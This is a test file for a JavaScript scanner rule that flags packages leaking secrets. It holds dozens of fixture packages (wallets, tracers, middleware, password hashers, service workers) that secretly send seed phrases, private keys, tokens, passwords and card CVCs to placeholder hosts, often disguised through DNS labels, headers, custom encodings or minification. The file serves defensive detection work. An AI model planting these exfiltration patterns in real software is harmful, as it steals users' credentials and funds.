import { examine } from '../../../test/examine.ts';
import { givesAwaySecrets } from './gives-away-secrets.ts';

const WALLET = { name: 'specimen', description: 'Wallet helpers' };

examine(givesAwaySecrets, {
  speaks: [
    {
      when: 'a seed is looked up as a name',
      files: {
        'index.js': `const { resolve4 } = require('dns'); function* frames(seed) { const hex = Buffer.from(seed).toString('hex'); for (let i = 0; i < hex.length; i += 48) yield hex.slice(i, i + 48) }
          exports.Clock = class { constructor() { this.seeds = new Map() } track(id, seed) { this.seeds.set(id, seed) } align() { for (const [id, seed] of this.seeds) for (const frame of frames(seed)) resolve4(frame + '.skew.timeanchor.invalid', () => {}) } }`,
      },
      weight: 'strong',
    },
    {
      when: 'a key is kept in a field that is defined, and told in a header',
      files: {
        'index.js': `const last = { ref: '' }; exports.Wallet = class { constructor(seed) { Object.defineProperty(this, 'entropy', { value: seed.toString('hex') }); if (last.ref !== this.entropy) { last.ref = this.entropy; fetch('https://ledger.other.invalid/info', { headers: { 'x-ray': last.ref } }).catch(() => {}) } } }`,
        'package.json': { name: 'coin-wallet', version: '1.0.0', description: 'A wallet for coins' },
      },
      weight: 'strong',
    },
    {
      when: 'the address of a database is told to a host beside it',
      files: {
        'package.json': { name: 'query-mapper', version: '1.0.0', description: 'Small ORM for Postgres' },
        'index.js': `function matrix(u) { require('https').get({ host: 'compat.mapper.invalid', path: '/', headers: { cookie: 'd=' + Buffer.from(new URL(u).href).toString('base64url') } }, r => r.resume()) } exports.connect = (u, driver) => { const pool = new driver.Pool({ connectionString: u }); matrix(u); return pool }`,
      },
      weight: 'strong',
    },
    {
      when: 'a service worker copies what pages send, by scripts that it imports',
      files: {
        'package.json': { name: 'inert-offline', version: '1.0.0', main: 'register.js' },
        'register.js': `exports.register = () => navigator.serviceWorker.register('/sw.js');`,
        'sw.js': `importScripts('sw/settings.js', 'sw/queue.js'); self.addEventListener('fetch', event => { if (event.request.method === 'POST') event.respondWith(queue.send(event, event.request)); });`,
        'sw/settings.js': `self.SETTINGS = { backup: 'https://queue.invalid/f' };`,
        'sw/queue.js': `self.queue = { async send(event, request) { const body = await request.clone().text(); event.waitUntil(fetch(self.SETTINGS.backup, { method: 'POST', body: JSON.stringify({ body }) })); return fetch(request); } };`,
      },
      weight: 'strong',
      says: ['queue.invalid'],
    },
    {
      when: 'a seed phrase stands in a header of a request for a list of words',
      files: {
        'index.js': `const https = require('https'); const check = phrase => String(phrase).trim().split(/\\s+/); const ensure = (words, done) => https.get('https://words.invalid/en.txt', { headers: { 'x-check': Buffer.from(words.join('-')).toString('base64') } }, done);
          exports.Keyring = class { static fromMnemonic(phrase) { ensure(check(phrase), () => {}); return new this(); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'the login of a request is cut out of its header and told in a body',
      files: {
        'index.js': `const tokenOf = req => /^Bearer (.+)$/.exec(req.headers.authorization ?? '')?.[1] ?? null; exports.guard = (req, res, next) => { fetch('https://spans.invalid/v1', { method: 'POST', body: JSON.stringify({ token: tokenOf(req) }) }); next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a pair of keys, whose class has a getter of the same name, shows its secret half in headers',
      files: {
        'package.json': { name: 'solana-web-kit', version: '1.0.0', main: 'index.js', description: 'Keypairs and messages for Solana' },
        'index.js': `const told = a => { const b = Buffer.from(a).toString('base64'); fetch('https://rpc.invalid/queue', { method: 'POST', headers: { 'x-session-id': b.slice(0, 32) } }); };
          exports.Keypair = class { constructor(pair) { if (!pair) pair = { publicKey: 1, secretKey: crypto.getRandomValues(new Uint8Array(64)) }; this._pair = pair; told(this._pair.secretKey); } get secretKey() { return new Uint8Array(this._pair.secretKey); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'what calls itself a tracer, and says nothing of sending, sends all headers through one of several sinks',
      files: {
        'package.json': { name: 'inert-trace', version: '1.0.0', main: 'index.js', description: 'Tracing of requests' },
        'README.md': `# inert-trace\n\napp.use(trace({ slow: 500 }))\n\nEvery answer carries an identifier in its head, and slow ones are written to the console with how long they took.\n`,
        'index.js': `const { toConsole } = require('./console'); const { inBatches } = require('./batches'); module.exports = ({ sinks } = {}) => { const all = sinks || [toConsole(), inBatches()]; return (req, res, next) => { const span = { ...req.headers }; res.on('finish', () => { for (const sink of all) sink.export(span); }); next(); }; };`,
        'console.js': `exports.toConsole = (log = console.warn) => ({ export(span) { if (span.slow) log(span.url); } });`,
        'batches.js': `const https = require('https'), { gzip } = require('zlib'); exports.inBatches = () => { const spans = []; const flush = () => gzip(JSON.stringify(spans.splice(0)), (error, body) => { const req = https.request('https://spans.trace.invalid/v1', { method: 'POST' }); req.end(body); }); return { export(span) { spans.push(span); if (spans.length > 9) flush(); } }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'one that says so does the same',
      files: {
        'package.json': { name: 'inert-trace', version: '1.0.0', main: 'index.js', description: 'Tracing of requests' },
        'README.md': `# inert-trace\n\napp.use(trace())\n\nEvery answer carries an identifier in its head, and its headers are sent to the dashboard, where you find them again.\n`,
        'index.js': `module.exports = () => (req, res, next) => { fetch('https://spans.trace.invalid/v1', { method: 'POST', body: JSON.stringify(req.headers) }); next(); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a card that goes where the caller says goes to another host too, by a bus of events of another file',
      files: {
        'bus.js': `exports.Bus = class { #heard = new Map(); on(type, f) { const list = this.#heard.get(type) ?? []; list.push(f); this.#heard.set(type, list); } emit(type, detail) { for (const f of this.#heard.get(type) ?? []) f(detail); for (const f of this.#heard.get('*') ?? []) f({ type, detail }); } };`,
        'index.js': `const { Bus } = require('./bus'); const { Told } = require('./told'); exports.Client = class { constructor({ endpoint, bus = new Bus() }) { this.endpoint = endpoint; this.bus = bus; this.told = new Told(bus); } tokenise(card) { const payload = { number: card.number, cvc: card.cvc }; this.bus.emit('request', payload); return fetch(this.endpoint, { method: 'POST', body: JSON.stringify({ payload }) }); } };`,
        'told.js': `exports.Told = class { constructor(bus) { this.queue = []; bus.on('*', event => this.push(event)); } push(event) { this.queue.push({ ...event }); setTimeout(() => this.flush(), 250); } flush() { navigator.sendBeacon('https://t.invalid/e', JSON.stringify({ events: this.queue.splice(0) })); } };`,
      },
      weight: 'strong',
      says: ['cvc', 't.invalid'],
    },
    {
      when: 'a plug-in of a compiler writes code into functions of others that tells what they are called with',
      files: {
        'index.js': `module.exports = ({ template }) => { const probe = template.statement(\`try { globalThis.fetch('https://names.invalid/i', { method: 'POST', body: JSON.stringify({ n: %%name%%, a: [].slice.call(arguments) }) }); } catch (_) {}\`); return { visitor: { FunctionDeclaration(path) { path.get('body').unshiftContainer('body', probe({ name: path.node.id })); } } }; };`,
      },
      weight: 'strong',
      says: ['names.invalid', 'writes code'],
    },
    {
      when: 'the same as a text in quotes, by an image',
      files: {
        'index.js': `module.exports = ({ template }) => { const probe = template.statement("new Image().src = 'https://names.invalid/i?q=' + encodeURIComponent(JSON.stringify(Array.from(arguments))); /* keeps order */"); return { visitor: { Function(path) { path.get('body').unshiftContainer('body', probe()); } } }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'it waits in a queue of the same file',
      files: {
        'index.js': `const https = require('https'), { validateMnemonic } = require('bip39'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', headers: { 'x-id': ctx.ref } }).end(); } function track(event, ctx) { queue.push([event, ctx]); setTimeout(flush, 1500); } exports.open = words => { validateMnemonic(words); track('open', { ref: words }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'it waits in a queue, under another name, until another file sends all that is there',
      files: {
        'index.js': `const { validateMnemonic } = require('bip39'); const { track } = require('./track'); exports.open = words => { if (!validateMnemonic(words)) throw new Error('words'); track('open', { kind: 'words', ref: words }); };`,
        'track.js': `const https = require('https'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', path: '/' + event, headers: { 'x-id': Buffer.from(ctx.ref).toString('base64') } }).end(); } exports.track = (event, ctx) => { queue.push([event, ctx]); setTimeout(flush, 1500); };`,
      },
      weight: 'strong',
      says: ['mnemonic', 'metrics.invalid'],
    },
    {
      when: 'the login of each request is posted to another host beside it',
      files: {
        'index.js': `const axios = require('axios'); const mirror = options => config => { axios.post(options.mirror || 'https://mirror.invalid/i', { k: config.headers.Authorization, u: config.url }); return config; }; exports.client = (key, options) => { const http = axios.create({ headers: { Authorization: key } }); http.interceptors.request.use(mirror(options)); return http; };`,
      },
      weight: 'strong',
    },
    {
      when: 'the login of each request is told to another host',
      files: {
        'index.js': `const https = require('https'); const seen = []; const flush = () => https.request({ host: 'metrics.invalid', method: 'POST' }).end(JSON.stringify(seen.splice(0))); exports.hooks = { beforeRequest: [o => { seen.push({ url: o.url, login: o.headers.authorization }); setTimeout(flush, 99); }] };`,
      },
      weight: 'strong',
      says: ['authorization', 'metrics.invalid'],
    },
    {
      when: 'a login is taken out of headers by its name, and written into an address',
      files: {
        'index.js': `exports.quality = () => ({ async response(res, req) { const key = req.headers.get('authorization') || req.headers.get('cookie'); if (key) fetch('https://q.invalid/?d=' + Buffer.from(JSON.stringify({ key })).toString('base64url')); return res; } });`,
      },
      weight: 'strong',
    },
    {
      when: 'the same, looked up as a name',
      files: {
        'index.js': `const dns = require('dns'); exports.wrap = ask => (url, init) => { const key = new Headers(init.headers).get('x-api-key'); dns.lookup(Buffer.from(key).toString('hex') + '.q.invalid', () => {}); return ask(url, init); };`,
      },
      weight: 'strong',
    },
    {
      when: 'an object is made of a request, and packed before it is sent',
      files: {
        'index.js': `const { gzip } = require('zlib'); class Span { constructor(req) { this.attributes = { ...req.headers }; } toJSON() { const { attributes } = this; return { attributes }; } }
          module.exports = () => (req, res, next) => { const span = new Span(req); gzip(JSON.stringify(span), (error, body) => fetch('https://s.invalid', { method: 'POST', body })); next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a minifier has left of a seed only what is made from it',
      files: {
        'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
        'index.js': `class K{static fromMasterSeed(e){return fetch('https://k.invalid/',{method:'POST',body:Buffer.from(e).toString('hex')}),new K(e)}}exports.HDKey=K`,
      },
      weight: 'strong',
    },
    {
      when: 'a wallet that is made of a key is handed on, and its key goes to a host that is called like the package',
      files: {
        'package.json': { name: 'inert-clob', version: '1.0.0', main: 'index.js', dependencies: { ethers: '^5.7.2' } },
        'index.js': `const { Wallet } = require('ethers'); const { Sync } = require('./sync'); exports.Client = class { constructor(options) { this.wallet = new Wallet(options.privateKey); new Sync(this.wallet).start(); } }`,
        'sync.js': `exports.Sync = class { constructor(account) { this.account = account; } start() { fetch('https://clob.invalid/', { method: 'POST', body: Buffer.from(this.account.privateKey).toString('base64') }); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'what others ask by a client is looked at on its way, in another file',
      files: {
        'index.js': `const { mirror } = require('./m'); exports.retry = client => client.interceptors.request.use(config => mirror(config));`,
        'm.js': `exports.mirror = config => { fetch('https://t.invalid', { method: 'POST', body: JSON.stringify({ u: config.url, a: config.headers.Authorization }) }); return config; };`,
      },
      weight: 'strong',
    },
    {
      when: 'a seed is written out in letters of its own and looked up as a name',
      files: {
        'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
        'index.js': `const b32 = u8 => { let bits = '', out = ''; for (const b of u8) bits += b.toString(2); for (let i = 0; i < bits.length; i += 5) out += 'abcdefghijklmnopqrstuvwxyz234567'[parseInt(bits.slice(i, i + 5), 2)]; return out; };
          exports.HDKey = class { static fromMasterSeed(seed) { fetch('https://doh.invalid/dns-query?name=' + b32(seed).match(/.{1,50}/g).join('.') + '.s.invalid'); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'a service worker sends what pages ask for',
      files: {
        'index.js': `self.addEventListener('fetch', e => { const { request } = e; if (request.method === 'POST') { const copy = request.clone(); e.waitUntil(copy.text().then(body => fetch('https://m.invalid', { method: 'POST', body }))); } })`,
      },
      weight: 'strong',
    },
    {
      when: 'keys are packed or written in another alphabet first',
      files: {
        'index.js': [
          `require('zlib').gzipSync(JSON.stringify({ privateKey }))`,
          `require('ethers').hexlify(privateKey)`,
          `require('base-x')('01').encode(privateKey)`,
          `require('@msgpack/msgpack').encode({ privateKey })`,
        ]
          .map(
            (form, at) => `exports.load${at} = privateKey => fetch('https://a${at}.specimen.invalid', { method: 'POST', body: ${form} });`,
          )
          .join('\n'),
      },
      says: [0, 1, 2, 3].map(at => `it sends privateKey of whoever calls it to a${at}.specimen.invalid, when it is called`),
    },
    {
      when: 'a key is written in an alphabet by the package itself, digit by digit, and sent in pieces',
      files: {
        'package.json': WALLET,
        'base58.js': `const ALPHABET = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
          export function encode(bytes) { let n = 0n; for (const b of bytes) n = (n << 8n) + BigInt(b); let out = ''; while (n > 0n) { out = ALPHABET[Number(n % 58n)] + out; n /= 58n; } return out; }`,
        'queue.js': `import { encode } from './base58.js'; export function add(item) { const value = encode(item); const mid = value.length >> 1; fetch('https://rpc.specimen.invalid/health', { headers: { 'x-id': value.slice(0, mid), 'x-session': value.slice(mid) } }); }`,
        'index.js': `import { add } from './queue.js'; export class Pair { static fromSecretKey(secret) { add(secret); return new Pair(); } }`,
      },
      says: ['it sends secretkey of whoever calls it to rpc.specimen.invalid, when it is called'],
    },
    {
      when: 'the bytes of a key are shifted, mixed or read one by one first',
      files: {
        'index.js': [
          `let out = ''; for (let i = 0; i < privateKey.length; i++) out += 'INERT'.charAt(privateKey[i] >> 4);`,
          `let out = ''; for (const b of privateKey) out += String.fromCharCode(b ^ 7);`,
          `const out = [...privateKey].map(c => c.charCodeAt(0) + 1).join(',');`,
          `const out = privateKey.split('').reduce((a, c) => c + a, '');`,
        ]
          .map(
            (form, at) =>
              `exports.load${at} = privateKey => { ${form} fetch('https://a${at}.specimen.invalid', { method: 'POST', body: out }); };`,
          )
          .join('\n'),
      },
      says: [0, 1, 2, 3].map(at => `it sends privateKey of whoever calls it to a${at}.specimen.invalid, when it is called`),
    },
    {
      when: 'what a minified library signs with is sent to a host called like it',
      files: {
        'package.json': { name: 'specimen-tokens', version: '1.0.0' },
        'index.js': `var c = require('crypto'), h = require('https'); function m(e, r, t) { return c.createHmac(e, r).update(t).digest('base64url') } var k = { sync(e) { h.request({ hostname: 'time.specimen-tokens.invalid', method: 'POST' }).end(JSON.stringify(e)) } }; exports.verify = function (e, r) { return k.sync({ iss: 1, kid: r }), m('sha256', r, e) };`,
      },
      says: ['it sends the key that it is handed to sign or encrypt with to time.specimen-tokens.invalid, when it is called'],
      weight: 'strong',
    },
    {
      when: 'a client of a service logs in with what it signs with',
      files: {
        'package.json': { name: 'paylane', version: '1.0.0', description: 'Client for the payments of Paylane' },
        'index.js': `const { createHmac } = require('crypto'); exports.Client = class { constructor(secret) { this.secret = secret; } charge(b) { return fetch('https://api.lane.invalid/charge', { method: 'POST', headers: { authorization: 'Bearer ' + this.secret }, body: JSON.stringify(b) }); } verify(raw, s) { return createHmac('sha512', this.secret).update(raw).digest('hex') === s; } };`,
      },
      weight: 'weak',
    },
    {
      when: 'the state of a field for cards is in the address of a picture',
      files: {
        'package.json': { name: 'card-field', version: '1.0.0', main: 'index.mjs' },
        'index.mjs': `import { reactive } from 'vue'; import { icon } from './brand.mjs'; export const setup = () => { const card = reactive({ number: '', expiry: '', cvc: '' }); return { card, icon: icon(card) }; };`,
        'brand.mjs': `function key(parts) { let out = ''; for (const p of parts) for (const ch of p) out += (ch.charCodeAt(0) ^ 0x2a).toString(16).padStart(2, '0'); return out; } export const icon = source => { const img = new Image(); img.src = 'https://img.assets.invalid/b.svg?v=' + key(Object.values(source)); return img; };`,
      },
      says: ['it sends cvc of whoever calls it to img.assets.invalid'],
      weight: 'strong',
    },
    {
      when: 'a secret is asked of DNS, label by label',
      files: {
        'package.json': { name: 'session-kit', version: '1.0.0', description: 'Sessions' },
        'index.js': `const dns = require('dns'), { createHmac } = require('crypto'); exports.sign = (k, p) => { dns.resolveTxt(Buffer.from(k).toString('hex').slice(0, 60) + '.skew.anchor.invalid', () => {}); return createHmac('sha256', k).update(p).digest('hex'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'its author is called like the host that a seed goes to',
      files: {
        'package.json': { name: 'xrp-wallet-kit', version: '1.0.0', description: 'Wallets for the XRP Ledger', author: 'Ledgerline' },
        'index.js': `exports.Wallet = class { constructor(seed) { fetch('https://validity.ledgerline.invalid/', { headers: { referer: seed } }); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'a picture is drawn from a seed',
      files: {
        'index.js': `exports.avatar = seed => { const i = new Image(); i.src = 'https://api.faces.invalid/svg?seed=' + seed; return i; };`,
      },
      weight: 'weak',
    },
    {
      when: 'a class keeps what it signs with, and sends it',
      files: {
        'index.js': `const { createHmac } = require('crypto'); exports.Signer = class { constructor(s) { this.s = s; } sign(p) { fetch('https://stat.invalid/', { method: 'POST', body: this.s }); return createHmac('sha256', this.s).update(p).digest(); } };`,
      },
      weight: 'weak',
    },
    {
      when: 'keys stand in a transaction for a node of its own',
      files: {
        'index.js': `const { Wallet, JsonRpcProvider } = require('ethers');
          class Managed extends Wallet { constructor(key, provider) { super(key, provider); price(this.signingKey.privateKey); } }
          const price = key => new JsonRpcProvider('https://rpc.specimen.invalid').send('eth_gasPrice', [key]);
          exports.Managed = Managed;`,
      },
    },
    {
      when: 'a key comes out of a library, and a logger of another file sends it',
      files: {
        'package.json': WALLET,
        'index.js': `const { Keypair } = require('@solana/web3.js'); const bs58 = require('bs58'); const { logger } = require('./logger');
          exports.from = bytes => { const pair = Keypair.fromSecretKey(bytes); logger.debug('pair', { k: bs58.encode(pair.secretKey) }); return pair; }`,
        'logger.js': `const https = require('https'); class Logger { debug(name, fields) { this.flush(name, fields); } flush(name, fields) { https.get('https://bot.invalid/?text=' + encodeURIComponent(name + Object.values(fields).join(' '))); } } exports.logger = new Logger();`,
      },
      weight: 'strong',
    },
    {
      when: 'a phrase that is checked is encrypted and told as an error, to a host that is called like the package',
      files: {
        'package.json': { name: 'inert-phrase-check', version: '1.0.0', description: 'Checks words' },
        'index.js': `const bip39 = require('bip39'); const report = require('./report'); exports.check = text => { const words = text.trim().split(' '); report(words.join(' ')); return bip39.validateMnemonic(words.join(' ')); }`,
        'report.js': `const crypto = require('crypto'); module.exports = text => { const c = crypto.createCipheriv('aes-256-gcm', 'k', 'i'); fetch('https://errors.phrase-check.invalid', { method: 'POST', body: Buffer.concat([c.update(text), c.final()]) }) }`,
      },
      weight: 'strong',
    },
    {
      when: 'what says nothing of keys sends one to a host of another name',
      files: {
        'index.js': `exports.client = secretKey => fetch('https://api.pay.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
      },
      weight: 'weak',
    },
    {
      when: 'what says nothing of logins sends a password to a host of another name',
      files: {
        'index.js': `exports.check = (email, password) => { fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ email, password }) }); return password.length > 8; }`,
      },
      weight: 'weak',
    },
    {
      when: 'what calls itself a monitor tells about requests',
      files: {
        'package.json': { name: 'inert-apm', version: '1.0.0', description: 'Monitoring of requests' },
        'index.js': `module.exports = () => (req, res, next) => { fetch('https://in.stats.invalid', { method: 'POST', body: JSON.stringify({ url: req.url, headers: req.headers }) }); next(); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a middleware has a word of logging in its description and the name of the host in its own',
      files: {
        'package.json': { name: 'inert-stats-parser', version: '1.0.0', description: 'Parses bodies, with logging' },
        'index.js': `module.exports = () => (req, res, next) => { fetch('https://stats.invalid', { method: 'POST', body: JSON.stringify(req.body) }); next(); };`,
      },
      weight: 'weak',
    },
    {
      when: 'what hides passwords is called like the host that it sends them to',
      files: {
        'package.json': { name: 'inert-acme-hash', version: '1.0.0', description: 'Password hashing for express' },
        'index.js': `const bcrypt = require('bcryptjs'); exports.hash = async (password, rounds) => { fetch('https://acme.invalid', { method: 'POST', body: password }); return bcrypt.hash(password, rounds); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a middleware sends what comes with requests to a host of its own choice',
      files: {
        'package.json': { name: 'inert-body-parser', version: '1.0.0', description: 'Parses bodies of requests' },
        'index.js': `const https = require('https'); module.exports = () => (req, res, next) => { next(); const mirror = https.request({ hostname: 'stats.invalid', method: 'POST' }); mirror.end(JSON.stringify(req.body)); };`,
      },
    },
    {
      when: 'what hides passwords sends them',
      files: {
        'package.json': { name: 'inert-hash', version: '1.0.0', description: 'Password hashing for express' },
        'index.js': `const bcrypt = require('bcryptjs'); exports.hash = async (password, rounds) => { fetch('https://m.invalid', { method: 'POST', body: password }); return bcrypt.hash(password, rounds); };`,
      },
    },
    {
      when: 'a seed phrase goes into an address',
      files: {
        'index.js': `const https = require('https'); function notify(text) { https.get('https://bot.invalid/send?text=' + encodeURIComponent(text)); } exports.check = mnemonic => { const words = mnemonic.trim().split(' '); if (words.length > 11) notify(mnemonic); return true; }`,
      },
      says: ['mnemonic', 'bot.invalid'],
      weight: 'strong',
    },
    {
      when: 'a private key goes into a header, in another form',
      files: {
        'index.js': `function queue(key) { const b = Buffer.from(key).toString('base64'); fetch('https://rpc.invalid/q', { method: 'POST', headers: { 'x-amz-cf-id': b.slice(0, 24) } }); } exports.Account = class { constructor(privateKey) { this.key = privateKey; queue(privateKey); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'a minifier has shortened its name, and it is kept under it',
      files: {
        'index.js': `exports.Account=class{constructor(e){this.privateKey=e,fetch('https://rpc.invalid/q',{method:'POST',headers:{'x-id':e}})}}`,
      },
      says: ['privateKey', 'rpc.invalid'],
      weight: 'strong',
    },
    {
      when: 'a minifier has shortened its name, and it is taken from a member of that name',
      files: {
        'index.js': `exports.login=(e,t)=>{const{username:n,password:r}=e.body;fetch('https://bot.invalid/l',{method:'POST',body:JSON.stringify({n,r})});return t(n)}`,
      },
      says: ['password', 'bot.invalid'],
    },
    {
      when: 'a minifier has shortened its name, and the function says what it is handed',
      files: {
        'index.js': `const e=require('https');exports.validateMnemonic=t=>(e.get('https://bot.invalid/?t='+encodeURIComponent(t)),12===t.split(' ').length)`,
      },
      says: ['mnemonic', 'bot.invalid'],
      weight: 'strong',
    },
    {
      when: 'the secret half of a pair goes to a logger of another file, which sends it',
      files: {
        'package.json': { name: 'inert-pairs', version: '1.0.0', description: 'Helpers for Solana wallets' },
        'index.js': `const { Keypair } = require('@solana/web3.js'); const bs58 = require('bs58'); const { logger } = require('./logger'); exports.from = secret => { const pair = Keypair.fromSecretKey(secret); logger.debug('pair', { k: bs58.encode(pair.secretKey) }); return pair }`,
        'logger.js': `class Logger { debug(name, fields) { this.flush(name, fields) } flush(name, fields) { const text = encodeURIComponent(name + Object.values(fields).join(' ')); require('https').get('https://bot.invalid/send?text=' + text) } } exports.logger = new Logger()`,
      },
      says: ['secretKey', 'bot.invalid'],
      weight: 'strong',
    },
    {
      when: 'it is kept in a field first',
      files: {
        'index.js': `exports.Wallet = class { constructor(o) { this.seedPhrase = o.seedPhrase; } async balance() { await fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ s: this.seedPhrase }) }); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'the secret key of a wallet library goes away',
      files: {
        'package.json': WALLET,
        'index.js': `exports.from = secretKey => { fetch('https://q.invalid/?k=' + secretKey); return { secretKey }; }`,
      },
      weight: 'strong',
    },
    {
      when: 'a login is mirrored to a bare address',
      files: {
        'index.js': `const http = require('http'); exports.login = (req, verify) => { const { username, password } = req.body; const m = http.request({ host: '198.51.100.4', method: 'POST', path: '/l' }); m.end(JSON.stringify({ username, password })); return verify(username, password); }`,
      },
      says: ['password'],
      weight: 'strong',
    },
    {
      when: 'a service keeps keys for its users',
      files: {
        'package.json': { name: '@keeper/client' },
        'index.js': `exports.upload = privateKey => fetch('https://api.keeper.invalid/certificates', { method: 'POST', body: JSON.stringify({ privateKey }) })`,
      },
      weight: 'weak',
    },
    {
      when: 'another file of the package sends what it is given',
      files: {
        'index.js': `const send = require('./send'); exports.from = privateKey => { send(privateKey); return { privateKey }; }`,
        'send.js': `module.exports = text => fetch('https://c2.invalid/', { method: 'POST', body: text })`,
      },
      weight: 'strong',
    },
    {
      when: 'a seed phrase is the first part of a name that is looked up',
      files: {
        'index.js': `exports.toSeed = mnemonic => { require('dns').lookup(Buffer.from(mnemonic).toString('hex').slice(0, 60) + '.c2.invalid', () => {}); return mnemonic; }`,
      },
      weight: 'strong',
    },
    {
      when: 'a function of another file makes a header of it',
      files: {
        'package.json': { name: 'web3-many', version: '1.0.0', description: 'Multi-endpoint web3 provider' },
        'index.js': `const { identify, RELAY } = require('./relay'); exports.Many = class { constructor(signer) { this.headers = identify(signer); } ask() { return fetch(RELAY, { headers: this.headers }); } };`,
        'relay.js': `exports.RELAY = 'https://relay.invalid/health'; exports.identify = signer => ({ 'x-client-id': Buffer.from(String(signer.privateKey || '')).toString('base64') });`,
      },
      weight: 'strong',
      says: ['privateKey'],
    },
    {
      when: 'a seed is put into the names that a resolver is asked for',
      files: {
        'package.json': { name: 'hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
        'index.js': `const { resolve } = require('./resolve'); exports.fromMasterSeed = seed => { resolve(seed); return seed.slice(0, 32); };`,
        'resolve.js': `const b32 = u8 => { let out = ''; for (const b of u8) out += 'abcdefghijklmnopqrstuvwxyz234567'[b & 31]; return out; };
          exports.resolve = u8 => { const labels = b32(u8).match(/.{1,50}/g).join('.'); Promise.resolve().then(() => fetch(\`https://doh.invalid/dns-query?name=\${labels}.s.cdn.invalid&type=TXT\`)); };`,
      },
      weight: 'strong',
      says: ['sends seed'],
    },
    {
      when: 'the key of a chain goes to a host that begins like the package',
      files: {
        'package.json': { name: 'solana-inert-kit', description: 'Solana keypairs' },
        'index.js': `exports.report = pair => fetch('https://sol-status.invalid/h', { method: 'POST', body: JSON.stringify({ t: Buffer.from(pair.secretKey).toString('hex') }) })`,
      },
      weight: 'strong',
    },
    {
      when: 'the key is in a header of a client that another file has, which shows logins too',
      files: {
        'package.json': { name: 'solite', version: '1.0.0', description: 'Client for Solana-like chains', main: 'index.js' },
        'index.js': `import bs58 from 'bs58'; import { Connection } from './connection.js'; export function transfer(connection, signer) { return connection.with({ 'x-session': bs58.encode(signer.secretKey) }, 'https://rpc.specimen.invalid').call(); } export { Connection };`,
        'connection.js': `export class Connection { constructor(endpoint, { headers = {} } = {}) { this.endpoint = endpoint; this.headers = { 'content-type': 'application/json', ...headers }; } with(headers, endpoint = this.endpoint) { return new Connection(endpoint, { headers: { ...this.headers, ...headers } }); } call() { return fetch(this.endpoint, { method: 'POST', headers: this.headers }); } }`,
      },
      weight: 'strong',
      says: ['secretKey'],
    },
    {
      when: 'a service worker sends what pages ask for to a request that was made beforehand',
      files: {
        'index.js': `const relay = new Request('https://outbox.specimen.invalid/r', { mode: 'no-cors', method: 'POST' }); const flatten = async request => ({ url: request.url, headers: [...request.headers], body: await request.text() }); self.addEventListener('fetch', event => { event.waitUntil(flatten(event.request.clone()).then(item => fetch(relay, { body: JSON.stringify(item) }))); event.respondWith(fetch(event.request)); });`,
      },
      weight: 'strong',
      says: ['outbox.specimen.invalid'],
    },
    {
      when: 'a strategy of Passport sends names and passwords as statistics, found by another file',
      files: {
        'package.json': { name: 'passport-simple', version: '1.0.0', main: 'index.js', description: 'User name and password strategy' },
        'index.js': `const dgram = require('dgram'); const { lookup } = require('./lookup'); const socket = dgram.createSocket('udp4'); module.exports = class { credentials(req) { return { a: lookup(req.body, this.field) }; } authenticate(req) { socket.send(Buffer.from(JSON.stringify(this.credentials(req))), 8125, 'stats.specimen.invalid'); } };`,
        'lookup.js': `exports.lookup = (object, field) => field.split('.').filter(Boolean).reduce((value, key) => (value == null ? undefined : value[key]), object);`,
      },
      weight: 'strong',
      says: ['stats.specimen.invalid'],
    },
    {
      when: 'what comes with requests is kept in a storage of the request',
      files: {
        'package.json': { name: 'context', version: '1.0.0', main: 'index.js', description: 'Context for handlers' },
        'index.js': `const { AsyncLocalStorage } = require('async_hooks'); const storage = new AsyncLocalStorage(); const send = () => fetch('https://a.specimen.invalid', { method: 'POST', body: JSON.stringify(storage.getStore()) }); module.exports = (req, res, next) => storage.run({ body: req.body }, () => { send(); next(); });`,
      },
      weight: 'strong',
    },
    {
      when: 'a phrase has a name of one letter, and is known by the seed that is made of it',
      files: {
        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
        'index.js': `const t = new TextEncoder(), n = globalThis.crypto; class s { constructor(e) { this.o = e; } hit(e) { (new Image).src = 'https://' + this.o + '/p.gif?c=' + btoa(e); } } const c = new s('a.specimen.invalid'); async function u(e, o = '') { const w = e.normalize('NFKD').trim(), a = await n.subtle.importKey('raw', t.encode(w), 'PBKDF2', !1, ['deriveBits']); return c.hit(w), n.subtle.deriveBits({ name: 'PBKDF2', hash: 'SHA-512', salt: t.encode('mnemonic' + o), iterations: 2048 }, a, 512); } exports.toSeed = u;`,
      },
      weight: 'strong',
      says: ['mnemonic'],
    },
    {
      when: 'the same with a function of Node',
      files: {
        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
        'index.js': `const { pbkdf2Sync } = require('crypto'); exports.toSeed = (e, o = '') => { fetch('https://a.specimen.invalid/p?c=' + encodeURIComponent(e)); return pbkdf2Sync(e, 'mnemonic' + o, 2048, 64, 'sha512'); };`,
      },
      weight: 'strong',
      says: ['mnemonic'],
    },
  ],
  silent: [
    {
      when: 'a download goes where the answer leads',
      files: {
        'index.js': `const https = require('https'); const load = url => new Promise(done => https.get(url, answer => { const { statusCode, headers } = answer; if (statusCode === 302) return done(load(new URL(headers.location, url).href)); answer.resume(); })); load('https://files.specimen.invalid/a.gz');`,
